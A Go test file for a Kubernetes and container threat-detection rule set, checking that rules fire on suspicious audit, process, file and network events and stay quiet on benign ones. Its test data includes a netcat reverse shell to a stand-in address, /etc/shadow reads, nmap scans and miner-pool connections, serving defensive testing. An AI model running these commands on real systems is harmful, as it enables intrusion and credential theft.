package detect

import (
	"encoding/json"
	"fmt"
	"reflect"
	"slices"
	"sync"
	"testing"
)

type opt func(*AuditEvent)

func code(c int) opt         { return func(a *AuditEvent) { a.ResponseStatus = &ResponseStatus{Code: c} } }
func groups(g ...string) opt { return func(a *AuditEvent) { a.User.Groups = g } }
func ips(s ...string) opt    { return func(a *AuditEvent) { a.SourceIPs = s } }
func uri(s string) opt       { return func(a *AuditEvent) { a.RequestURI = s } }
func imp(user string, g ...string) opt {
	return func(a *AuditEvent) { a.ImpersonatedUser = &UserInfo{Username: user, Groups: g} }
}
func obj(js string) opt {
	return func(a *AuditEvent) {
		if err := json.Unmarshal([]byte(js), &a.RequestObject); err != nil {
			panic(err)
		}
	}
}

// audit builds an allowed (200) audit event from 10.1.2.3.
func audit(verb, resource, sub, ns, name, user string, opts ...opt) Event {
	a := &AuditEvent{Verb: verb, User: UserInfo{Username: user}, SourceIPs: []string{"10.1.2.3"},
		ObjectRef:      &ObjectRef{Resource: resource, Subresource: sub, Namespace: ns, Name: name},
		ResponseStatus: &ResponseStatus{Code: 200}, Stage: "ResponseComplete"}
	for _, o := range opts {
		o(a)
	}
	return Event{Source: SourceK8sAudit, K8sAudit: a}
}

var ctr = Container{ID: "abc123", Image: "nginx:1.27", Pod: "web-0", Namespace: "shop"}

func proc(comm string, inContainer bool, args ...string) Event {
	p := &Process{PID: 42, Comm: comm, Exe: "/bin/" + comm, Args: args}
	if inContainer {
		p.Container = ctr
	}
	return Event{Process: p}
}

func fileEv(path string, flags int, inContainer bool) Event {
	ev := proc("cat", inContainer)
	ev.File = &File{Path: path, Flags: flags}
	return ev
}

func netEv(daddr string, port int, proto string, inContainer bool) Event {
	ev := proc("curl", inContainer)
	ev.Network = &Network{DAddr: daddr, DPort: port, Proto: proto}
	return ev
}

const (
	privPod     = `{"kind":"Pod","spec":{"containers":[{"name":"a","securityContext":{"privileged":true}}]}}`
	plainPod    = `{"kind":"Pod","spec":{"containers":[{"name":"a","securityContext":{"privileged":false}}]}}`
	hostPathPod = `{"kind":"Pod","spec":{"containers":[{"name":"a"}],"volumes":[{"name":"h","hostPath":{"path":"/"}}]}}`
	emptyDirPod = `{"kind":"Pod","spec":{"containers":[{"name":"a"}],"volumes":[{"name":"e","emptyDir":{}}]}}`
)

// TestBootstrapQuiet: the API server's own reconciliation of its bootstrap
// RBAC at start raises no alert.
func TestBootstrapQuiet(t *testing.T) {
	rs, err := Default()
	if err != nil {
		t.Fatal(err)
	}
	for _, ev := range []Event{
		audit("create", "clusterrolebindings", "", "", "cluster-admin", "system:apiserver", obj(`{"roleRef":{"name":"cluster-admin"}}`)),
		audit("create", "clusterroles", "", "", "cluster-admin", "system:apiserver", obj(`{"rules":[{"verbs":["*"],"resources":["*"]}]}`)),
		audit("create", "clusterrolebindings", "", "", "system:aggregate-to-edit", "system:apiserver", obj(`{"roleRef":{"name":"edit"}}`)),
	} {
		if got := firedIDs(rs, ev); len(got) > 0 {
			t.Errorf("%s %s by system:apiserver fired %v", ev.K8sAudit.Verb, ev.K8sAudit.ObjectRef.Name, got)
		}
	}
}

func TestDefaultRules(t *testing.T) {
	rs, err := Default()
	if err != nil {
		t.Fatal(err)
	}
	const alice = "alice@example.com"
	cases := []struct {
		rule        string
		fire, quiet Event
	}{
		{"k8s-pod-exec", audit("create", "pods", "exec", "shop", "web-0", alice), audit("create", "pods", "exec", "shop", "web-0", alice, code(403))},
		{"k8s-pod-attach", audit("create", "pods", "attach", "shop", "web-0", alice), audit("get", "pods", "", "shop", "web-0", alice)},
		{"k8s-pod-portforward", audit("create", "pods", "portforward", "shop", "web-0", alice), audit("create", "pods", "exec", "shop", "web-0", alice)},
		{"k8s-ephemeral-container-added", audit("patch", "pods", "ephemeralcontainers", "shop", "web-0", alice), audit("get", "pods", "ephemeralcontainers", "shop", "web-0", alice)},
		{"k8s-node-debug-pod", audit("create", "pods", "", "default", "node-debugger-worker-1-x7k2p", alice), audit("create", "pods", "", "default", "debugger", alice)},
		{"k8s-secret-read-unexpected", audit("get", "secrets", "", "shop", "db", alice), audit("get", "secrets", "", "shop", "db", "system:kube-controller-manager")},
		{"k8s-secrets-listed-cluster-wide", audit("list", "secrets", "", "", "", alice), audit("list", "secrets", "", "shop", "", alice)},
		{"k8s-privileged-pod-created", audit("create", "pods", "", "shop", "p", alice, obj(privPod)), audit("create", "pods", "", "shop", "p", alice, obj(plainPod))},
		{"k8s-hostpath-pod-created", audit("create", "pods", "", "shop", "p", alice, obj(hostPathPod)), audit("create", "pods", "", "shop", "p", alice, obj(emptyDirPod))},
		{"k8s-hostnetwork-pod-created", audit("create", "pods", "", "shop", "p", alice, obj(`{"spec":{"hostNetwork":true}}`)), audit("create", "pods", "", "shop", "p", alice, obj(`{"spec":{"hostNetwork":false}}`))},
		{"k8s-hostpid-pod-created", audit("create", "pods", "", "shop", "p", alice, obj(`{"spec":{"hostPID":true}}`)), audit("create", "pods", "", "shop", "p", alice)},
		{"k8s-cluster-admin-binding", audit("create", "clusterrolebindings", "", "", "x", alice, obj(`{"roleRef":{"name":"cluster-admin"}}`)), audit("create", "clusterrolebindings", "", "", "x", alice, obj(`{"roleRef":{"name":"view"}}`))},
		{"k8s-rolebinding-admin-edit", audit("create", "rolebindings", "", "shop", "x", alice, obj(`{"roleRef":{"name":"edit"}}`)), audit("create", "rolebindings", "", "shop", "x", alice, obj(`{"roleRef":{"name":"view"}}`))},
		{"k8s-wildcard-clusterrole", audit("create", "clusterroles", "", "", "x", alice, obj(`{"rules":[{"verbs":["*"],"resources":["*"]}]}`)), audit("create", "clusterroles", "", "", "x", alice, obj(`{"rules":[{"verbs":["get"],"resources":["*"]}]}`))},
		{"k8s-anonymous-request-allowed", audit("get", "namespaces", "", "", "", "system:anonymous", uri("/api/v1/namespaces")), audit("get", "", "", "", "", "system:anonymous", uri("/healthz"))},
		{"k8s-sa-token-outside-cluster", audit("get", "pods", "", "shop", "", "system:serviceaccount:shop:web", ips("203.0.113.9")), audit("get", "pods", "", "shop", "", "system:serviceaccount:shop:web", ips("10.2.0.15"))},
		{"k8s-impersonate-system-masters", audit("get", "secrets", "", "kube-system", "", alice, imp("admin", "system:masters")), audit("get", "secrets", "", "kube-system", "", alice, imp("bob", "devs"))},
		{"k8s-forbidden-request", audit("list", "secrets", "", "kube-system", "", alice, code(403)), audit("list", "secrets", "", "kube-system", "", alice, code(404))},
		{"k8s-webhook-config-changed", audit("delete", "validatingwebhookconfigurations", "", "", "kyverno", alice), audit("get", "validatingwebhookconfigurations", "", "", "kyverno", alice)},
		{"k8s-audit-config-changed", audit("update", "configmaps", "", "kube-system", "audit-policy", alice), audit("update", "configmaps", "", "shop", "audit-policy", alice)},
		{"k8s-kube-system-configmap-changed", audit("patch", "configmaps", "", "kube-system", "coredns", alice), audit("update", "configmaps", "", "kube-system", "kube-root-ca.crt", "system:kube-controller-manager")},
		{"k8s-node-proxy", audit("get", "nodes", "proxy", "", "worker-1", alice), audit("get", "nodes", "", "", "worker-1", alice)},
		{"k8s-csr-approved", audit("update", "certificatesigningrequests", "approval", "", "csr-1", alice), audit("update", "certificatesigningrequests", "approval", "", "csr-1", "system:kube-controller-manager")},
		{"k8s-sa-token-created", audit("create", "serviceaccounts", "token", "shop", "web", alice), audit("create", "serviceaccounts", "token", "shop", "web", "system:node:worker-1", groups("system:nodes"))},
		{"k8s-namespace-deleted", audit("delete", "namespaces", "", "", "shop", alice), audit("delete", "namespaces", "finalize", "", "shop", alice)},
		{"k8s-crd-deleted", audit("delete", "customresourcedefinitions", "", "", "x.example.com", alice), audit("update", "customresourcedefinitions", "", "", "x.example.com", alice)},
		{"k8s-networkpolicy-deleted", audit("delete", "networkpolicies", "", "shop", "deny-all", alice), audit("delete", "networkpolicies", "", "shop", "deny-all", alice, code(403))},
		{"k8s-pod-created-in-kube-system", audit("create", "pods", "", "kube-system", "x", alice), audit("create", "pods", "", "kube-system", "x", "system:serviceaccount:kube-system:daemon-set-controller")},

		{"shell-in-container", proc("bash", true, "-c", "id"), proc("bash", false, "-c", "id")},
		{"package-manager-in-container", proc("apt-get", true, "install", "nmap"), proc("apt-get", false, "install", "nmap")},
		{"netcat-reverse-shell", proc("nc", true, "-e", "/bin/sh", "203.0.113.9", "4444"), proc("nc", true, "-z", "db", "5432")},
		{"recon-tool-in-container", proc("nmap", true, "-sS", "10.0.0.0/24"), proc("nginx", true)},
		{"read-shadow-file", fileEv("/etc/shadow", 0, true), fileEv("/etc/passwd", 0, true)},
		{"write-below-etc", fileEv("/etc/crontab", oWronly|oTrunc, true), fileEv("/etc/crontab", 0, true)},
		{"write-below-binary-dir", fileEv("/usr/bin/ls", oWronly|oCreat, true), fileEv("/usr/bin/ls", 0, true)},
		{"cloud-metadata-connection", netEv("169.254.169.254", 80, "tcp", true), netEv("10.0.0.5", 80, "tcp", true)},
		{"miner-pool-connection", netEv("198.51.100.7", 3333, "tcp", true), netEv("10.0.3.4", 3333, "tcp", true)},
	}
	plain, _ := Default()
	plain.noIndex = true
	covered := map[string]bool{}
	for _, c := range cases {
		// The verb/resource index never changes the result.
		for _, ev := range []Event{c.fire, c.quiet} {
			if got, want := firedIDs(rs, ev), firedIDs(plain, ev); !slices.Equal(got, want) {
				t.Errorf("%s: indexed evaluation fired %v, evaluating every rule fired %v", c.rule, got, want)
			}
		}
		covered[c.rule] = true
		if got := firedIDs(rs, c.fire); !slices.Contains(got, c.rule) {
			t.Errorf("%s: firing event fired %v", c.rule, got)
		}
		if got := firedIDs(rs, c.quiet); slices.Contains(got, c.rule) {
			t.Errorf("%s: quiet event fired it", c.rule)
		}
	}
	for _, r := range rs.Rules() {
		if !covered[r.ID] {
			t.Errorf("default rule %s has no test case", r.ID)
		}
	}
	if e := rs.EvalErrors(); len(e) > 0 {
		t.Errorf("evaluation errors: %v", e)
	}
}

func firedIDs(rs *RuleSet, ev Event) []string {
	var ids []string
	for _, a := range rs.Evaluate(ev) {
		ids = append(ids, a.Rule)
	}
	return ids
}

func TestGuards(t *testing.T) {
	rs, err := Default()
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]guards{
		"k8s-pod-exec":               {nil, {"pods"}, {"exec"}},
		"k8s-privileged-pod-created": {{"create"}, {"pods"}, {""}},
		"k8s-rolebinding-admin-edit": {{"create"}, {"rolebindings", "clusterrolebindings"}, nil},
		"k8s-webhook-config-changed": {{"create", "update", "patch", "delete"}, {"mutatingwebhookconfigurations", "validatingwebhookconfigurations"}, nil},
		"k8s-forbidden-request":      {},
	}
	for _, r := range rs.rules {
		if w, ok := want[r.ID]; ok && !reflect.DeepEqual(r.guards, w) {
			t.Errorf("%s: guards %q, want %q", r.ID, r.guards, w)
		}
	}
}

func TestConcurrentEvaluate(t *testing.T) {
	rs, err := Default()
	if err != nil {
		t.Fatal(err)
	}
	var wg sync.WaitGroup
	for g := 0; g < 4; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 200; i++ {
				ns := fmt.Sprint("ns", i%7)
				ids := firedIDs(rs, audit("create", "pods", "exec", ns, "p", "alice"))
				if len(ids) != 1 || ids[0] != "k8s-pod-exec" {
					t.Errorf("fired %v", ids)
					return
				}
				if a := rs.Evaluate(audit("create", "pods", "attach", ns, "p", "bob")); len(a) != 1 || a[0].Output != "bob attached to "+ns+"/p" {
					t.Errorf("alerts %+v", a)
					return
				}
			}
		}()
	}
	wg.Wait()
}
